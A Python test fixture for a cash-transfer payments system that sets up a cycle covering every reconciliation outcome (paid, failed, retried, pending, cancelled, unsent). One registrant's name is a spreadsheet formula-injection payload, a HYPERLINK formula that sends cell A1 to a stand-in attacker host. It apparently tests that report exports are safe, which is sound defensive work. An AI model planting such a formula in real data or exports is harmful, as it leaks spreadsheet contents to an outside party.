"""A cycle in which every outcome happens, for the reconciliation report's tests.

Nine beneficiaries of 100 KES, batches of two: the last one rejected at approval, the first one
with no phone (not payable); then B000001 paid (its registrant named like a spreadsheet
formula), B000002 failed then paid on retry, B000003 failed twice, B000004 pending at the
hub, B000005 and B000006 cancelled before sending, B000007 issued but not sent.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

from sqlalchemy import select
from sqlalchemy.orm import Session

from g2p_payment_phee.payments import service
from g2p_payment_phee.payments.cancel import cancel_payments
from g2p_payment_phee.payments.config_service import configure_manager
from g2p_payment_phee.payments.models import Payment, PaymentBatch
from g2p_payment_phee.payments.reconcile import Outcome as Result
from g2p_payment_phee.payments.reconcile import reconcile_payments, refresh_batches
from g2p_payment_phee.payments.states import (
    BatchState,
    PaymentStatus,
    mark_batch_payments_sent,
    set_batch_state,
)
from g2p_payment_phee.programs import service as programs
from g2p_payment_phee.programs.models import Cycle, Entitlement, ManagerKind, Program, TargetType
from g2p_payment_phee.registry.models import Phone, Registrant
from g2p_payment_phee.users.models import User
from tests import factories

FORMULA_NAME = '=HYPERLINK("http://attacker.example/?x="&A1,"Click")'
PAID_AT = datetime(2027, 1, 15, 9, 30, tzinfo=UTC)  # when batch 1 settled; batch n a day later


@dataclass(frozen=True)
class EveryOutcome:
    cycle: Cycle
    batches: list[PaymentBatch]  # in sequence order, the retry's last


def every_outcome(
    session: Session, admin: User, approver: User, program: Program, phee: Callable[..., None]
) -> EveryOutcome:
    """The cycle described above, with its batches."""
    phee(max_batch_size=2)
    cycle = _approved(session, admin, approver, program)
    first = session.scalars(select(Phone).order_by(Phone.number)).first()
    assert first is not None
    first.disabled_at = first.created_at
    session.flush()
    service.prepare_cycle(session, admin, cycle)
    b1, b2, b3, _waiting = _batches(session, cycle)
    _send(session, admin, b1)
    _settle(session, admin, b1, PaymentStatus.PAID, PaymentStatus.FAILED)
    _send(session, admin, b2)
    _settle(session, admin, b2, PaymentStatus.FAILED)  # B000004 stays pending
    cancel_payments(session, admin, cycle, batch=b3, reason="wrong amounts")
    service.retry_failed(session, admin, cycle)
    retry = _batches(session, cycle)[-1]
    _send(session, admin, retry)
    _settle(session, admin, retry, PaymentStatus.PAID, PaymentStatus.FAILED)
    session.flush()
    return EveryOutcome(cycle, _batches(session, cycle))


def paid_program(session: Session, admin: User, currency: str = "KES") -> Program:
    """A program paid through PHEE to phone numbers ("Grant in KES")."""
    return programs.create_program(
        session,
        admin,
        name=f"Grant in {currency}",
        currency=currency,
        target_type=TargetType.INDIVIDUAL,
        manager_kind=ManagerKind.PHEE,
    )


def phee_settings(session: Session, admin: User, program: Program) -> Callable[..., None]:
    """Configure the program's PHEE manager (phone payees) now, and again with more settings
    each time the answer is called."""

    def configure(**settings: object) -> None:
        values = {"tenant_id": "gorilla", "payee_id_type": "phone", **settings}
        configure_manager(session, admin, program, ManagerKind.PHEE, values)

    configure()
    return configure


def every_outcome_cycle(session: Session, admin: User, approver: User) -> Cycle:
    """The cycle described above, in a program of its own."""
    program = paid_program(session, admin)
    return every_outcome(
        session, admin, approver, program, phee_settings(session, admin, program)
    ).cycle


def _approved(session: Session, admin: User, approver: User, program: Program) -> Cycle:
    for index in range(9):
        registrant = factories.payable_registrant(session, index)
        if index == 1:
            registrant.name = FORMULA_NAME
    session.flush()
    programs.enrol(session, admin, program)
    cycle = programs.create_cycle(
        session, admin, program, name="2027-01", start=date(2027, 1, 1), end=date(2027, 1, 31)
    )
    programs.add_fixed_entitlements(session, admin, cycle, amount="100")
    programs.submit_cycle(session, admin, cycle)
    last = session.scalars(
        select(Entitlement.code)
        .join(Registrant, Registrant.id == Entitlement.registrant_id)
        .where(Registrant.reference == "B000008")
    ).one()
    programs.reject_entitlement(session, approver, cycle, last, "moved away")
    programs.approve_cycle(session, approver, cycle)
    return cycle


def _batches(session: Session, cycle: Cycle) -> list[PaymentBatch]:
    return list(
        session.scalars(
            select(PaymentBatch)
            .where(PaymentBatch.cycle_id == cycle.id)
            .order_by(PaymentBatch.sequence)
        )
    )


def _send(session: Session, admin: User, batch: PaymentBatch) -> None:
    set_batch_state(session, admin, batch, BatchState.SENDING)
    mark_batch_payments_sent(session, batch)
    set_batch_state(session, admin, batch, BatchState.SUBMITTED)


def _settle(session: Session, admin: User, batch: PaymentBatch, *statuses: PaymentStatus) -> None:
    ids = session.scalars(
        select(Payment.id).where(Payment.batch_id == batch.id).order_by(Payment.batch_row)
    ).all()
    outcomes = [
        Result(
            pid,
            status,
            Decimal(100) if status is PaymentStatus.PAID else None,
            None if status is PaymentStatus.PAID else f"Closed ({batch.sequence})",
            f"T-{batch.sequence}-{row}",
            PAID_AT + timedelta(days=batch.sequence - 1),
        )
        for row, (pid, status) in enumerate(zip(ids, statuses, strict=False))
    ]
    reconcile_payments(session, outcomes)
    refresh_batches(session, admin, [batch.id])
